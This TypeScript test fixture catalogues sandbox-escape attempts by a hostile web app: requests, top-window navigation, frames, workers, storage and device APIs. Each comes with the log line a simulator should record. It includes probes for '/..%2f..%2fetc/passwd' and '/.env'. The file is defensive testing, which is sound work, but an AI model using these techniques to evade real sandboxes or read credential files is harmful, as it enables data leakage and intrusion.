/**
 * Ways out of the sandbox that a hostile app tries: what it does, and what the simulator logs. A
 * line of the log is the kind of a violation and its detail, or a level and a text of the console.
 */

export interface Attack {
  /** Also the first label of the attacked host, so that each attack is known by its target. */
  readonly name: string;
  /** In the head of the page; `%TARGET%` is the URL of the target. */
  readonly head?: string;
  readonly body?: string;
  /** Body of an async function. `TARGET` is the URL of the target, `HOST` its host and port. */
  readonly script?: string;
  /** More files of the package. */
  readonly files?: Readonly<Record<string, string>>;
  /** A line of the log matches; by default an error of this attack that it does not catch. */
  readonly log?: RegExp;
  /** It has a page of its own, since the app is changed or gone afterwards. */
  readonly isAlone?: boolean;
}

const add = (element: string, properties: string): string =>
  `document.body.append(Object.assign(document.createElement('${element}'), ${properties}));`;
const silently = (code: string): string => `try { ${code} } catch {}`;
const onClick = (code: string): string => `addEventListener('click', async () => { ${silently(code)} });`;
const clickLink = (properties: string): string =>
  `const a = Object.assign(document.createElement('a'), { href: TARGET, ${properties} }); document.body.append(a); a.click();`;
const clickForm = (attributes: string): string =>
  `document.body.insertAdjacentHTML('beforeend', '<form ${attributes}><button>x</button></form>');
   const form = document.body.lastElementChild; form.action = TARGET; form.firstChild.click();`;
/** Tells the test that the code has run where it must not. */
const REACHED = `top.postMessage('REACHED', '*');`;

/** Requests of all kinds. */
const REQUESTS: readonly Attack[] = [
  { name: 'fetch', script: `fetch(TARGET).catch(() => {});`, log: /^connect-src http:\/\/fetch\./ },
  {
    name: 'fetch-no-cors',
    script: `fetch(TARGET, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }).catch(() => {});`,
    log: /^connect-src http:\/\/fetch-no-cors\./,
  },
  {
    name: 'xhr',
    script: silently(`const x = new XMLHttpRequest(); x.open('POST', TARGET); x.send('x');`),
    log: /^connect-src http:\/\/xhr\./,
  },
  {
    name: 'xhr-sync',
    script: silently(`const x = new XMLHttpRequest(); x.open('GET', TARGET, false); x.send();`),
    log: /^connect-src http:\/\/xhr-sync\./,
  },
  { name: 'beacon', script: `navigator.sendBeacon(TARGET, 'x');`, log: /^connect-src http:\/\/beacon\./ },
  { name: 'websocket', script: silently(`new WebSocket('ws://' + HOST);`), log: /^connect-src ws:\/\/websocket\./ },
  { name: 'eventsource', script: silently(`new EventSource(TARGET);`), log: /^connect-src http:\/\/eventsource\./ },
  {
    name: 'webtransport',
    script: silently(`new WebTransport('https://' + HOST).ready.catch(() => {});`),
    log: /^connect-src https:\/\/webtransport\./,
  },
  { name: 'ping', script: clickLink(`href: '#', ping: TARGET`), log: /^connect-src http:\/\/ping\./ },
  { name: 'image', script: `new Image().src = TARGET;`, log: /^img-src http:\/\/image\./ },
  { name: 'srcset', body: `<img srcset="%TARGET% 2x, %TARGET% 1x">`, log: /^img-src http:\/\/srcset\./ },
  {
    name: 'svg-image',
    body: `<svg><image href="%TARGET%" width="9" height="9"/></svg>`,
    log: /^img-src http:\/\/svg-image\./,
  },
  { name: 'audio', script: `new Audio(TARGET).load();`, log: /^media-src http:\/\/audio\./ },
  { name: 'video-poster', body: `<video poster="%TARGET%"></video>`, log: /^img-src http:\/\/video-poster\./ },
  {
    name: 'track',
    body: `<video crossorigin><track id="track" src="%TARGET%" default></video>`,
    script: `track.track.mode = 'showing';`,
    log: /^media-src http:\/\/track\./,
  },
  {
    name: 'stylesheet',
    head: `<link rel="stylesheet" href="%TARGET%">`,
    log: /^style-src-elem http:\/\/stylesheet\./,
  },
  {
    name: 'css-import',
    head: `<style>@import url("%TARGET%");</style>`,
    log: /^style-src-elem http:\/\/css-import\./,
  },
  {
    name: 'css-image',
    body: `<style>input[value^="a"] { background: url("%TARGET%") }</style><input value="abc">`,
    log: /^img-src http:\/\/css-image\./,
  },
  {
    name: 'css-font',
    body: `<style>@font-face { font-family: x; src: url("%TARGET%") } p { font-family: x }</style><p>text</p>`,
    log: /^font-src http:\/\/css-font\./,
  },
  {
    name: 'font-face',
    script: `new FontFace('x', 'url(' + TARGET + ')').load().catch(() => {});`,
    log: /^font-src http:\/\/font-face\./,
  },
  { name: 'icon', head: `<link rel="icon" href="%TARGET%">`, log: /^img-src http:\/\/icon\./ },
  { name: 'script', script: add('script', '{ src: TARGET }'), log: /^script-src-elem http:\/\/script\./ },
  { name: 'import', script: `import(TARGET).catch(() => {});`, log: /^script-src-elem http:\/\/import\./ },
  { name: 'preload', head: `<link rel="preload" as="image" href="%TARGET%">`, log: /^img-src http:\/\/preload\./ },
  {
    name: 'preload-fetch',
    head: `<link rel="preload" as="fetch" href="%TARGET%" crossorigin>`,
    log: /^connect-src http:\/\/preload-fetch\./,
  },
  {
    name: 'modulepreload',
    head: `<link rel="modulepreload" href="%TARGET%">`,
    log: /^script-src-elem http:\/\/modulepreload\./,
  },
  { name: 'prefetch', head: `<link rel="prefetch" href="%TARGET%">`, log: /^default-src http:\/\/prefetch\./ },
  { name: 'preconnect', head: `<link rel="preconnect" href="%TARGET%">`, log: /^connection preconnect .*preconnect\./ },
  {
    name: 'dns-prefetch',
    head: `<link rel="dns-prefetch" href="%TARGET%">`,
    log: /^connection dns-prefetch .*dns-prefetch\./,
  },
  {
    name: 'preconnect-later',
    script: `const l = document.createElement('link'); l.rel = 'x'; document.head.append(l); l.href = TARGET; l.rel = 'preconnect';`,
    log: /^connection preconnect .*preconnect-later\./,
  },
  {
    name: 'speculation-rules',
    script: `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
      textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [TARGET], eagerness: 'immediate' }] }) }));`,
    log: /^script-src-elem inline/,
  },
  { name: 'object', body: `<object data="%TARGET%"></object>`, log: /^frame object http:\/\/object\./ },
  { name: 'embed', body: `<embed src="%TARGET%">`, log: /^frame embed http:\/\/embed\./ },
];

/** Other places: this frame, the page around it, other windows, files. */
const PLACES: readonly Attack[] = [
  { name: 'parent-read', script: `parent.document.title;` },
  { name: 'parent-write', script: `parent.name = 'x';` },
  { name: 'parent-storage', script: `parent.frames[0].parent.localStorage;` },
  { name: 'parent-script', script: `parent.location = 'javascript:document.title="REACHED"';` },
  { name: 'opener', script: `if (opener !== null || top.opener !== null) ${REACHED} top.opener.document;` },
  { name: 'frame-element', script: `if (frameElement !== null) ${REACHED} frameElement.remove();` },
  { name: 'top-navigation', script: `top.location = TARGET;` },
  { name: 'top-replace', script: `top.location.replace(TARGET);` },
  { name: 'top-open', script: `open(TARGET, '_top');`, log: /^popup http:\/\/top-open\./ },
  { name: 'top-link', script: clickLink(`target: '_top'`), log: /^navigation _top http:\/\/top-link\./ },
  { name: 'top-click', script: `${onClick(`top.location.href = TARGET;`)} throw new Error('later');` },
  { name: 'top-history', script: `top.history.back();` },
  { name: 'top-form', script: clickForm('target="_top"'), log: /^form(?:-action)? http:\/\/top-form\./ },
  { name: 'popup', script: `open(TARGET);`, log: /^popup http:\/\/popup\./ },
  {
    name: 'popup-click',
    script: onClick(`open(TARGET, 'x', 'popup,noopener');`),
    log: /^popup http:\/\/popup-click\./,
  },
  { name: 'popup-link', script: clickLink(`target: '_blank'`), log: /^popup _blank http:\/\/popup-link\./ },
  { name: 'popup-named', script: clickLink(`target: 'other'`), log: /^navigation other http:\/\/popup-named\./ },
  { name: 'popup-form', script: clickForm('target="_blank"'), log: /^form(?:-action)? http:\/\/popup-form\./ },
  {
    name: 'form',
    script: clickForm('method="post"').replace('firstChild.click', 'submit'),
    log: /^form(?:-action)? http:\/\/form\./,
    isAlone: true,
  },
  {
    name: 'form-request',
    script: clickForm('method="post"').replace('firstChild.click', 'requestSubmit'),
    log: /^form(?:-action)? http:\/\/form-request\./,
    isAlone: true,
  },
  { name: 'base', head: `<base href="%TARGET%">`, log: /^base-uri http:\/\/base\./ },
  {
    name: 'self-location',
    script: `name = 'secret'; location = TARGET;`,
    log: /^navigation http:\/\/self-location\./,
    isAlone: true,
  },
  { name: 'self-link', script: clickLink(''), log: /^navigation http:\/\/self-link\./ },
  { name: 'self-open', script: `open(TARGET, '_self');`, log: /^navigation http:\/\/self-open\./, isAlone: true },
  {
    name: 'self-refresh',
    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + TARGET }));`,
    log: /^navigation http:\/\/self-refresh\./,
    isAlone: true,
  },
  {
    name: 'self-script',
    script: `location = 'javascript:${REACHED.replaceAll("'", '"')}';`,
    log: /^script-src-elem inline/,
  },
  {
    name: 'self-data',
    script: `location = 'data:text/html,<script>${REACHED.replaceAll("'", '"')}</script>';`,
    log: /^navigation no address/,
    isAlone: true,
  },
  {
    name: 'self-blob',
    script: `location = URL.createObjectURL(new Blob(['<script>${REACHED.replaceAll("'", '"')}</script>'], { type: 'text/html' }));`,
    log: /^navigation no address/,
    isAlone: true,
  },
  { name: 'self-blank', script: `location = 'about:blank';`, log: /has not responded/, isAlone: true },
  { name: 'self-mail', script: `location = 'mailto:a@' + HOST;`, log: /^navigation no address/, isAlone: true },
  { name: 'self-server', script: `location = '/.waypost/other';`, log: /^path \/\.waypost\/other/, isAlone: true },
  { name: 'history-state', script: `history.pushState(null, '', TARGET);` },
  { name: 'domain', script: `document.domain = 'localhost';` },
  {
    name: 'document-open',
    script: `document.open(); document.write('<img src="' + TARGET + '"><script src="/child.js"></' + 'script>'); document.close();`,
    files: { 'child.js': `new RTCPeerConnection(); ${REACHED}` },
    log: /^webrtc|^img-src http:\/\/document-open\./,
    isAlone: true,
  },
  { name: 'download', script: clickLink(`download: 'x'`), log: /^download http:\/\/download\./ },
  {
    name: 'download-data',
    script: `Object.assign(document.createElement('a'), { href: 'data:application/octet-stream,x', download: 'x' }).click();`,
    log: /^download data:/,
  },
  {
    name: 'svg-document',
    script: `location = 'x.svg';`,
    files: { 'x.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script href="svg.js"/></svg>`, 'svg.js': REACHED },
    log: /^script-src-elem .*\/svg\.js/,
    isAlone: true,
  },
  {
    name: 'xml-document',
    script: `location = 'x.xhtml';`,
    files: { 'x.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script src="xml.js"/></html>`, 'xml.js': REACHED },
    log: /^script-src-elem .*\/xml\.js/,
    isAlone: true,
  },
];

/** Other realms and threads, in which nothing is wrapped. */
const REALMS: readonly Attack[] = [
  { name: 'frame', script: add('iframe', '{ src: TARGET }'), log: /^frame iframe http:\/\/frame\./ },
  {
    name: 'frame-own',
    script: add('iframe', `{ src: '/own.html' }`),
    files: { 'own.html': `<script src="own.js"></script>`, 'own.js': REACHED },
    log: /^frame iframe \/own\.html/,
  },
  {
    name: 'frame-blank',
    script: `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.RTCPeerConnection;`,
  },
  {
    name: 'frame-srcdoc',
    body: `<iframe srcdoc="<script src='/srcdoc.js'></script>"></iframe>`,
    files: { 'srcdoc.js': REACHED },
    log: /^frame iframe srcdoc/,
  },
  {
    name: 'frame-shadow',
    script: `const host = document.createElement('p'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="<script src=/shadow.js><' + '/script>">';`,
    files: { 'shadow.js': REACHED },
    log: /^frame iframe srcdoc/,
  },
  {
    name: 'frame-hidden',
    script: `Object.defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] });
      Object.defineProperty(Node.prototype, 'isConnected', { get: () => false });
      Element.prototype.remove = Element.prototype.matches = MutationObserver.prototype.observe = () => {};
      Element.prototype.querySelectorAll = Document.prototype.querySelectorAll = () => [];
      document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script src=/hidden.js></' + 'script>"></iframe>');`,
    files: { 'hidden.js': REACHED },
    log: /^frame iframe srcdoc/,
    isAlone: true,
  },
  {
    name: 'frame-data',
    script: add('iframe', `{ src: 'data:text/html,<script>${REACHED.replaceAll("'", '"')}</script>' }`),
    log: /^frame iframe data:/,
  },
  {
    name: 'frame-script',
    script: add('iframe', `{ src: 'javascript:${REACHED.replaceAll("'", '"')}' }`),
    log: /^frame iframe javascript:/,
  },
  { name: 'frame-fenced', script: add('fencedframe', '{}'), log: /^frame fencedframe/ },
  { name: 'worker', script: silently(`new Worker('/srcdoc.js');`), log: /^worker \/srcdoc\.js/ },
  {
    name: 'worker-blob',
    script: silently(`new Worker(URL.createObjectURL(new Blob(['fetch("' + TARGET + '")'])));`),
    log: /^worker blob:/,
  },
  {
    name: 'worker-data',
    script: silently(`new Worker('data:text/javascript,fetch("' + TARGET + '")');`),
    log: /^worker data:/,
  },
  { name: 'worker-shared', script: silently(`new SharedWorker('/srcdoc.js');`), log: /^worker \/srcdoc\.js/ },
  {
    name: 'worker-service',
    script: silently(`navigator.serviceWorker.register('/srcdoc.js');`),
    log: /^worker serviceWorker/,
  },
  {
    name: 'worklet',
    script: `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('data:text/javascript,1');`,
  },
  { name: 'eval', script: silently(`eval('1');`), log: /^script-src eval/ },
  {
    name: 'wasm',
    script: `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => {});`,
    log: /^script-src wasm-eval/,
  },
  { name: 'inline-script', body: `<script>${REACHED}</script>`, log: /^script-src-elem inline/ },
  { name: 'inline-handler', body: `<img src="data:," onerror="${REACHED}">`, log: /^script-src-attr inline/ },
  {
    name: 'script-data',
    script: add('script', `{ src: 'data:text/javascript,${REACHED.replaceAll("'", '"')}' }`),
    log: /^script-src-elem data/,
  },
  {
    name: 'script-blob',
    script: add('script', `{ src: URL.createObjectURL(new Blob(['${REACHED.replaceAll("'", '"')}'])) }`),
    log: /^script-src-elem blob/,
  },
];

/** The machine, the browser, and what it stores. */
const DEVICE: readonly Attack[] = [
  {
    name: 'webrtc',
    script: silently(`new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + HOST }] });`),
    log: /^webrtc RTCPeerConnection/,
  },
  { name: 'webrtc-old', script: silently(`new webkitRTCPeerConnection();`), log: /^webrtc webkitRTCPeerConnection/ },
  { name: 'storage-local', script: silently(`localStorage.x = 1;`), log: /^storage localStorage/ },
  { name: 'storage-session', script: silently(`sessionStorage.x = 1;`), log: /^storage sessionStorage/ },
  { name: 'storage-database', script: silently(`indexedDB.open('x');`), log: /^storage indexedDB/ },
  { name: 'storage-cookie', script: silently(`document.cookie = 'a=b';`), log: /^storage cookie/ },
  { name: 'storage-caches', script: silently(`caches.open('x').catch(() => {});`), log: /^storage caches/ },
  { name: 'storage-files', script: `await navigator.storage.getDirectory();` },
  {
    name: 'camera',
    script: `navigator.mediaDevices.getUserMedia({ video: true }).catch(() => {});`,
    log: /^device camera/,
  },
  {
    name: 'screen',
    script: onClick(`await navigator.mediaDevices.getDisplayMedia();`),
    log: /^device display-capture/,
  },
  {
    name: 'position',
    script: `navigator.geolocation.getCurrentPosition(() => {}, () => {});`,
    log: /^device geolocation/,
  },
  { name: 'clipboard-read', script: onClick(`await navigator.clipboard.readText();`), log: /^device clipboard-read/ },
  {
    name: 'clipboard-write',
    script: onClick(`await navigator.clipboard.writeText('x');`),
    log: /^device clipboard-write/,
  },
  {
    name: 'fullscreen',
    script: onClick(`await document.documentElement.requestFullscreen();`),
    log: /^device requestFullscreen/,
  },
  {
    name: 'pointer-lock',
    script: onClick(`await document.body.requestPointerLock();`),
    log: /^device requestPointerLock/,
  },
  {
    name: 'drag',
    body: `<p draggable="true" id="drag">x</p>`,
    script: `drag.dispatchEvent(new DragEvent('dragstart', { dataTransfer: new DataTransfer() })); throw new Error('no user');`,
  },
  { name: 'alert', script: `alert('x');`, log: /^dialog alert/ },
  { name: 'confirm', script: `confirm('x');`, log: /^dialog confirm/ },
  { name: 'prompt', script: `prompt('x');`, log: /^dialog prompt/ },
  { name: 'print', script: `print();`, log: /^dialog print/ },
  { name: 'credentials', script: `await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } });` },
  { name: 'share', script: `await navigator.share({ url: TARGET });` },
  { name: 'usb', script: `await navigator.usb.requestDevice({ filters: [] });` },
  { name: 'file-picker', script: `await showOpenFilePicker();` },
  { name: 'protocol-handler', script: `navigator.registerProtocolHandler('web+x', TARGET + '?%s');` },
];

/** The servers of the simulator. `CONTROL` is the origin of its page. */
const SERVERS: readonly Attack[] = [
  {
    name: 'control-fetch',
    script: `fetch(CONTROL + '/simulator/events').catch(() => {});`,
    log: /^connect-src http:\/\/127\.0\.0\.1:/,
  },
  {
    name: 'control-image',
    script: `new Image().src = CONTROL + '/simulator/command/reload';`,
    log: /^img-src http:\/\/127\.0\.0\.1:/,
  },
  { name: 'control-frame', script: add('iframe', '{ src: CONTROL }'), log: /^frame iframe http:\/\/127\.0\.0\.1:/ },
  { name: 'control-self', script: `location = CONTROL;`, log: /^navigation http:\/\/127\.0\.0\.1:/, isAlone: true },
  { name: 'app-traversal', script: `new Image().src = '/..%2f..%2fetc/passwd';`, log: /^path \/\.\.%2f/ },
  { name: 'app-hidden', script: `new Image().src = '/.env';`, log: /^path \/\.env/ },
  {
    name: 'app-report',
    script: `navigator.sendBeacon('/.waypost/report', 'x');`,
    log: /^connect-src \/\.waypost\/report/,
  },
];

export const ATTACKS: readonly Attack[] = [...REQUESTS, ...PLACES, ...REALMS, ...DEVICE, ...SERVERS];
